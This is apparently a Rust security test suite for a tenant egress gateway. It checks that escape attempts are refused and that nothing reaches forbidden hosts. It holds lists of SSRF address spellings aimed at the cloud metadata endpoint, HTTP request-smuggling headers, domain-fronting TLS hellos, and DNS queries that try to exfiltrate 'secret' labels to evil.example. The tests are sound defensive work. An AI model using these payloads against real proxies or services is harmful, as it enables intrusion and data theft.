//! What somebody would try who wants out. What it aims at listens, and nothing may arrive there.

use std::{
    io::{ErrorKind, Read, Write},
    net::{Ipv4Addr, SocketAddr, TcpStream, UdpSocket},
    time::Duration,
};

use rustls::{ClientConnection, pki_types::ServerName};

use crate::{
    dns::Say,
    net::{connect, read_all, read_answer, within},
    world::{ECHO, HOSTS_OWN, HTTP, OTHERS, PROXY, PUBLIC, TLS, Tenant, world},
};

crate::trials![
    no_spelling_of_an_address_or_a_name_gets_out,
    no_name_that_leads_to_a_private_address_gets_out,
    a_name_that_changes_is_judged_again,
    requests_that_two_readers_read_differently_are_refused,
    nothing_that_is_no_http_or_tls_gets_out_by_itself,
    a_tunnel_leads_to_the_name_that_was_asked_for,
    tls_without_a_name_with_another_or_with_a_hidden_one_is_refused,
    nothing_is_reached_without_the_gateway,
    another_tenants_gateway_answers_nobody_else,
    names_carry_nothing_out,
];

/// Nobody came to any address but those that tests list.
fn nobody_arrived(ports: &[u16]) {
    let world = world();
    for address in [[93, 184, 216, 66], [10, 77, 200, 5], [100, 64, 0, 9], [100, 100, 100, 200], [169, 254, 169, 254]] {
        for port in ports {
            assert_eq!(world.arrivals.at(address, *port), 0, "{address:?}:{port}");
        }
    }
    for port in [HTTP, TLS, 22] {
        assert_eq!(world.at_host.at(HOSTS_OWN, port), 0, "the host's {port}");
    }
}

/// What is asked for by CONNECT, by absolute form and by Host is refused in the same way.
fn refused_by_all_means(tenant: &Tenant, host: &str, port: u16) {
    let asks = [
        format!("CONNECT {host}:{port} HTTP/1.1\r\nHost: {host}:{port}\r\n\r\n"),
        format!("GET http://{host}:{port}/ HTTP/1.1\r\nHost: {host}:{port}\r\nConnection: close\r\n\r\n"),
        format!("GET / HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n"),
    ];
    for (ask, to) in asks.iter().zip([PROXY, PROXY, HTTP]) {
        let answer = tenant.send(to, ask);
        assert!(
            answer.starts_with("HTTP/1.1 403 ") || answer.starts_with("HTTP/1.1 400 "),
            "{ask:?} was answered {answer:?}"
        );
        assert!(answer.contains("tenantd: refused for tenant"), "{ask:?} was answered {answer:?}");
    }
}

fn no_spelling_of_an_address_or_a_name_gets_out() {
    let tenant = world().gateway.tenant("spelling", &["api.example.com:80", "*.stripe.com:80"]);
    for host in [
        "169.254.169.254",
        "169.254.43518",
        "0xa9fea9fe",
        "0xa9.0xfe.0xa9.0xfe",
        "2852039166",
        "0251.0376.0251.0376",
        "169.254.169.254.",
        "[::ffff:169.254.169.254]",
        "[::1]",
        "127.0.0.1",
        "127.1",
        "0",
        "0.0.0.0",
        "localhost",
        "10.77.0.1",
        "10.20.0.5",
        "metadata.google.internal",
        "api.example.com.",
        "api.example.com..",
        ".api.example.com",
        "api..example.com",
        "user@api.example.com",
        "api.example.com@evil.example",
        "api.example.com%2eevil.example",
        "api.example.com%00.evil.example",
        "api.example.com#.evil.example",
        "api.example.com\\.evil.example",
        "evil.example/api.example.com",
        "evil.example?api.example.com",
        "api.example.com,evil.example",
        "api.example.com;evil.example",
        "xn--pi-7ed.example.com",
        "аpi.example.com",
        "ａpi.example.com",
        "api。example.com",
        "*.stripe.com",
        "stripe.com",
        "a_b.stripe.com",
        "-a.stripe.com",
        "gateway.internal.evil.example",
    ] {
        refused_by_all_means(&tenant, host, 80);
    }
    for ask in [
        "CONNECT api.example.com HTTP/1.1\r\nHost: api.example.com\r\n\r\n",
        "CONNECT api.example.com:080 HTTP/1.1\r\nHost: api.example.com\r\n\r\n",
        "CONNECT api.example.com:65616 HTTP/1.1\r\nHost: api.example.com\r\n\r\n",
        "CONNECT api.example.com:80:80 HTTP/1.1\r\nHost: api.example.com\r\n\r\n",
        "CONNECT http://api.example.com:80 HTTP/1.1\r\nHost: api.example.com\r\n\r\n",
        "CONNECT api.example.com:81 HTTP/1.1\r\nHost: api.example.com:81\r\n\r\n",
        "CONNECT api.example.com:80 HTTP/1.1\r\nHost: evil.example:80\r\n\r\n",
        "GET http://api.example.com/ HTTP/1.1\r\nHost: evil.example\r\n\r\n",
        "GET http://evil.example/ HTTP/1.1\r\nHost: api.example.com\r\n\r\n",
        "GET https://api.example.com/ HTTP/1.1\r\nHost: api.example.com\r\n\r\n",
        "GET ftp://api.example.com/ HTTP/1.1\r\nHost: api.example.com\r\n\r\n",
        "GET //evil.example/ HTTP/1.1\r\nHost: evil.example\r\n\r\n",
        "GET api.example.com:80 HTTP/1.1\r\nHost: api.example.com\r\n\r\n",
        "GET / HTTP/1.1\r\nHost:\r\n\r\n",
        "GET / HTTP/1.1\r\n\r\n",
        "GET / HTTP/1.1\r\nHost: api.example.com:443\r\n\r\n",
    ] {
        for port in [PROXY, HTTP] {
            let answer = tenant.send(port, ask.replace("HTTP/1.1\r\n", "HTTP/1.1\r\nConnection: close\r\n"));
            assert!(answer.starts_with("HTTP/1.1 40"), "{ask:?} on {port} was answered {answer:?}");
        }
    }
    nobody_arrived(&[HTTP]);
}

fn no_name_that_leads_to_a_private_address_gets_out() {
    let world = world();
    let tenant =
        world.gateway.tenant("private", &["*.rebind.example:80", "*.rebind.example:443", "*.rebind.example:22"]);
    let loopback = [[127, 0, 0, 1], [0, 0, 0, 0], [224, 0, 0, 1], [255, 255, 255, 255], [192, 0, 0, 192]];
    for (number, address) in OTHERS.into_iter().skip(2).chain(loopback).chain([HOSTS_OWN, [192, 0, 2, 1]]).enumerate() {
        let name = format!("n{number}.rebind.example");
        world.resolver.say(&name, Say::Addresses(vec![address], 60));
        let answer = tenant.tunnel(&format!("{name}:80")).unwrap_err();
        assert!(
            answer.starts_with("HTTP/1.1 403 ") && answer.contains("(address-not-public)"),
            "{address:?}: {answer}"
        );
        let answer = tenant.ask(HTTP, &format!("GET / HTTP/1.1\r\nHost: {name}\r\n\r\n"));
        assert!(answer.contains("(address-not-public)"), "{address:?}: {answer}");
        let mut stream = tenant.connect(TLS).unwrap();
        stream.write_all(&hello(&name)).unwrap();
        assert_eq!(read_all(&mut stream), [21, 3, 3, 0, 2, 2, 49], "{address:?}");
    }
    // Of several addresses only those are dialled that may be.
    world.resolver.say("mixed.rebind.example", Say::Addresses(vec![[169, 254, 169, 254], PUBLIC], 60));
    let answer = tenant.ask(HTTP, "GET / HTTP/1.1\r\nHost: mixed.rebind.example\r\n\r\n");
    assert!(answer.starts_with("HTTP/1.1 200 "), "{answer}");
    nobody_arrived(&[HTTP, TLS, 22]);
}

fn a_name_that_changes_is_judged_again() {
    let world = world();
    let name = "turn.example.net";
    let tenant = world.gateway.tenant("turn", &["turn.example.net:7000"]);
    world.resolver.say(name, Say::Addresses(vec![PUBLIC], 1));
    tenant.echo("turn.example.net:7000");
    world.resolver.say(name, Say::Addresses(vec![[169, 254, 169, 254]], 1));
    crate::net::eventually("the new address", Duration::from_secs(3), || {
        tenant.tunnel("turn.example.net:7000").is_err_and(|answer| answer.contains("(address-not-public)"))
    });
    nobody_arrived(&[ECHO]);
}

fn requests_that_two_readers_read_differently_are_refused() {
    let tenant = world().gateway.tenant("smuggling", &["api.example.com:80"]);
    let smuggled = "GET /smuggled HTTP/1.1\r\nHost: api.example.com\r\n\r\n";
    for head in [
        "Content-Length: 4\r\nTransfer-Encoding: chunked",
        "Transfer-Encoding: chunked\r\nContent-Length: 4",
        "Content-Length: 0\r\nContent-Length: 44",
        "Content-Length: 0, 44",
        "Content-Length: +0",
        "Content-Length: 0x0",
        "Transfer-Encoding: chunked\r\nTransfer-Encoding: identity",
        "Transfer-Encoding: identity, chunked",
        "Transfer-Encoding: xchunked",
        "Transfer-Encoding:\u{b}chunked",
        "Transfer-Encoding : chunked",
        "X: y\r\n Transfer-Encoding: chunked",
        "X: y\n Z: w",
        "X: y\nZ: w",
        "X: y\rZ: w",
        "X\0: y",
        "X: \0",
        "Host: evil.example",
        "host: api.example.com",
    ] {
        let ask = format!("POST /first HTTP/1.1\r\nHost: api.example.com\r\n{head}\r\n\r\n0\r\n\r\n{smuggled}");
        let answer = tenant.send(HTTP, &ask);
        assert!(answer.starts_with("HTTP/1.1 400 "), "{head:?} was answered {answer:?}");
        let answers = answer.lines().filter(|line| line.starts_with("HTTP/1.1 ")).count();
        assert_eq!(answers, 1, "{head:?} was answered {answer:?}");
    }
    // Chunks that are none: the request has begun, and ends with its connection.
    for chunks in [
        "5\nhello\r\n0\r\n\r\n",
        "5\r\nhelloworld\r\n0\r\n\r\n",
        "-1\r\n",
        "fffffffffffffffff\r\n",
        "0\r\nHost: x\r\n\r\n",
    ] {
        let head = "POST /first HTTP/1.1\r\nHost: api.example.com\r\nTransfer-Encoding: chunked\r\n\r\n";
        let answer = tenant.send(HTTP, format!("{head}{chunks}{smuggled}"));
        assert!(!answer.contains("/smuggled"), "{chunks:?} was answered {answer:?}");
    }
    // What comes behind a good request is judged as well.
    let good = "GET /good HTTP/1.1\r\nHost: api.example.com\r\n\r\n";
    let mut stream = tenant.connect(HTTP).unwrap();
    stream.write_all(format!("{good}GET /bad HTTP/1.1\r\nHost: a\r\nHost: b\r\n\r\n{smuggled}").as_bytes()).unwrap();
    assert!(read_answer(&mut stream).contains("GET /good "));
    let refused = String::from_utf8_lossy(&read_all(&mut stream)).into_owned();
    assert!(refused.starts_with("HTTP/1.1 400 ") && refused.contains("GET /bad"), "{refused}");
    let long = format!("GET / HTTP/1.1\r\nHost: api.example.com\r\nX: {}\r\n\r\n", "y".repeat(100_000));
    assert!(tenant.send(HTTP, long).starts_with("HTTP/1.1 4"));
    let many = format!("GET / HTTP/1.1\r\nHost: api.example.com\r\n{}\r\n", "X: y\r\n".repeat(200));
    assert!(tenant.send(HTTP, many).starts_with("HTTP/1.1 4"));
}

fn nothing_that_is_no_http_or_tls_gets_out_by_itself() {
    let tenant = world().gateway.tenant("other", &["api.example.com:22", "api.example.com:443", "api.example.com:80"]);
    for (port, bytes) in [
        (22, &b"SSH-2.0-OpenSSH_9.6\r\n"[..]),
        (HTTP, b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"),
        (HTTP, b"\0\0\0\x08\x04\xd2\x16\x2f"),
        (TLS, b"\x16\x03\x01\x00\x05\x02\0\0\x01\0"),
        (TLS, b"\x80\x2e\x01\x00\x02"),
        (PROXY, b"\x05\x01\x00"),
        (PROXY, b"\x04\x01\x00\x50\x5d\xb8\xd8\x22\0"),
        (HTTP, b"EHLO me\r\n"),
        (HTTP, b"get / http/1.1\r\n\r\n"),
    ] {
        let answer = tenant.send(port, bytes);
        let refused = answer.contains("(unknown-protocol)") || answer.as_bytes().first() == Some(&21);
        assert!(refused, "{bytes:?} was answered {answer:?}");
    }
}

/// The hello of rustls for a name.
pub fn hello(name: &str) -> Vec<u8> {
    let name = ServerName::try_from(name.to_owned()).unwrap();
    let mut client = ClientConnection::new(world().tls.client.clone(), name).unwrap();
    let mut bytes = Vec::new();
    client.write_tls(&mut bytes).unwrap();
    bytes
}

/// A hello with these extensions alone.
fn made_hello(extensions: &[u8]) -> Vec<u8> {
    let mut body = [&[3, 3][..], &[7; 32], &[0, 0, 2, 0x13, 1, 1, 0]].concat();
    body.extend(u16::try_from(extensions.len()).unwrap().to_be_bytes());
    body.extend(extensions);
    let mut message = vec![1, 0];
    message.extend(u16::try_from(body.len()).unwrap().to_be_bytes());
    message.extend(body);
    let mut record = vec![22, 3, 1];
    record.extend(u16::try_from(message.len()).unwrap().to_be_bytes());
    record.extend(message);
    record
}

fn name_extension(name: &str) -> Vec<u8> {
    let length = u8::try_from(name.len()).unwrap();
    [&[0, 0, 0, length + 5, 0, length + 3, 0, 0, length][..], name.as_bytes()].concat()
}

pub const NOT_LISTED: [u8; 7] = [21, 3, 3, 0, 2, 2, 112];
pub const DENIED: [u8; 7] = [21, 3, 3, 0, 2, 2, 49];

fn tls_without_a_name_with_another_or_with_a_hidden_one_is_refused() {
    let tenant = world().gateway.tenant("hello", &["api.example.com:443"]);
    let refused = |bytes: &[u8]| {
        let mut stream = tenant.connect(TLS).unwrap();
        stream.write_all(bytes).unwrap();
        read_all(&mut stream)
    };
    assert_eq!(refused(&hello("other.example.org")), NOT_LISTED);
    assert_eq!(refused(&made_hello(&[])), DENIED);
    let name = name_extension("api.example.com");
    let hidden = [&name[..], &[0xfe, 0x0d, 0, 4, 0, 0, 0, 0]].concat();
    assert_eq!(refused(&made_hello(&hidden)), DENIED);
    assert_eq!(refused(&made_hello(&[name.clone(), name].concat())), DENIED);
    for odd in ["api.example.com.", "10.20.0.5", "169.254.169.254", "api.example.com\0", "u@api.example.com", ""] {
        assert_eq!(refused(&made_hello(&name_extension(odd))), DENIED, "{odd:?}");
    }
}

fn a_tunnel_leads_to_the_name_that_was_asked_for() {
    let world = world();
    world.resolver.say("front.example.com", Say::Addresses(vec![PUBLIC], 60));
    let tenant = world.gateway.tenant("fronting", &["front.example.com:443", "93.184.216.34:443"]);
    let cut = |to: &str, bytes: &[u8]| {
        let mut stream = tenant.tunnel(to).unwrap();
        stream.write_all(bytes).unwrap();
        read_all(&mut stream)
    };
    assert_eq!(cut("front.example.com:443", &hello("other.example.org")), DENIED);
    assert_eq!(cut("front.example.com:443", &made_hello(&[])), DENIED);
    let hidden = [&name_extension("front.example.com")[..], &[0xfe, 0x0d, 0, 0]].concat();
    assert_eq!(cut("front.example.com:443", &made_hello(&hidden)), DENIED);
    assert_eq!(cut("93.184.216.34:443", &hello("other.example.org")), DENIED);
    // Cut into single bytes it is the same.
    let mut stream = tenant.tunnel("front.example.com:443").unwrap();
    for byte in hello("other.example.org") {
        if stream.write_all(&[byte]).is_err() {
            break;
        }
    }
    assert_eq!(read_all(&mut stream), DENIED);
    let good = tenant.tunnel("front.example.com:443").unwrap();
    assert_eq!(tenant.tls(good, "front.example.com").unwrap(), "over TLS: hello\n");
}

fn nothing_is_reached_without_the_gateway() {
    let tenant = world().gateway.tenant("around", &["api.example.com:443"]);
    for address in OTHERS.into_iter().chain([PUBLIC, HOSTS_OWN, [192, 0, 2, 1], [192, 0, 2, 2], [198, 51, 100, 53]]) {
        for port in [22, 53, HTTP, ECHO] {
            let to = (std::net::Ipv4Addr::from(address), port);
            let reached = within(&tenant.namespace, || {
                TcpStream::connect_timeout(&SocketAddr::from(to), Duration::from_millis(50))
            });
            assert!(reached.is_err(), "{to:?}");
        }
    }
    for port in [23, 2375, 5353, 6379, 9100] {
        assert!(tenant.connect(port).is_err(), "the gateway's {port}");
    }
    let socket = within(&tenant.namespace, || UdpSocket::bind("0.0.0.0:0")).unwrap();
    socket.set_read_timeout(Some(Duration::from_millis(300))).unwrap();
    for (address, port) in [([198, 51, 100, 53], 53), ([8, 8, 8, 8], 53), (PUBLIC, 443), (tenant.gateway.octets(), 443)]
    {
        let _ = socket.send_to(
            b"\0\x07\x01\0\0\x01\0\0\0\0\0\0\x03api\x07example\x03com\0\0\x01\0\x01",
            SocketAddr::from((address, port)),
        );
    }
    assert!(socket.recv(&mut [0; 512]).is_err());
    nobody_arrived(&[22, 53, HTTP, ECHO]);
}

fn another_tenants_gateway_answers_nobody_else() {
    let gateway = &world().gateway;
    let rich = gateway.tenant("rich", &["api.example.com:7000"]);
    let poor = gateway.tenant("poor", &[]);
    rich.echo("api.example.com:7000");
    // It is as silent as an address that nobody has: on the proxy's port, and on one where nobody listens.
    let nobodys = Ipv4Addr::new(10, 77, 255, 1);
    for to in [(nobodys, PROXY), (rich.gateway, PROXY), (rich.gateway, 9), (rich.address, HTTP)] {
        let printed = connect(&poor.namespace, to).map(drop).map_err(|error| error.kind());
        assert_eq!(printed, Err(ErrorKind::TimedOut), "{to:?}");
    }
    // With the other's address as its own, nothing comes back to it, and nothing is let through.
    crate::net::ip(&format!("-n {} addr add {}/32 dev eth0", poor.namespace, rich.address));
    let forged = within(&poor.namespace, || {
        let socket = UdpSocket::bind((rich.address, 0)).unwrap();
        socket.set_read_timeout(Some(Duration::from_millis(500))).unwrap();
        let packet = b"\0\x07\x01\0\0\x01\0\0\0\0\0\0\x03api\x07example\x03com\0\0\x01\0\x01";
        socket.send_to(packet, (rich.gateway, 53)).unwrap();
        socket.recv(&mut [0; 512])
    });
    assert!(forged.is_err());
    assert!(poor.tunnel("api.example.com:7000").unwrap_err().contains("(not-listed)"));
}

fn names_carry_nothing_out() {
    let world = world();
    let tenant = world.gateway.tenant("exfiltration", &["api.example.com:443", "*.stripe.com:443"]);
    for name in ["secret-data.evil.example", "c2VjcmV0.stripe.com.evil.example", "a.b.c.d.e.evil.example"] {
        for kind in [1, 16, 28, 65, 10, 255] {
            assert_eq!(tenant.look_up(name, kind).unwrap().0, 3, "{name} {kind}");
        }
    }
    assert_eq!(tenant.look_up("c2VjcmV0.stripe.com", 16).unwrap().0, 0);
    let mut stream = tenant.connect(53).unwrap();
    let packet = b"\0\x07\x01\0\0\x01\0\0\0\0\0\0\x06secret\x04evil\x07example\0\0\x10\0\x01";
    stream.write_all(&u16::try_from(packet.len()).unwrap().to_be_bytes()).unwrap();
    stream.write_all(packet).unwrap();
    let mut answer = [0; 6];
    stream.read_exact(&mut answer).unwrap();
    assert_eq!(answer[5] & 15, 3);
    let asked = world.resolver.all_asked();
    assert!(!asked.iter().any(|name| name.contains("ecret") || name.contains("c2VjcmV0")), "{asked:?}");
}
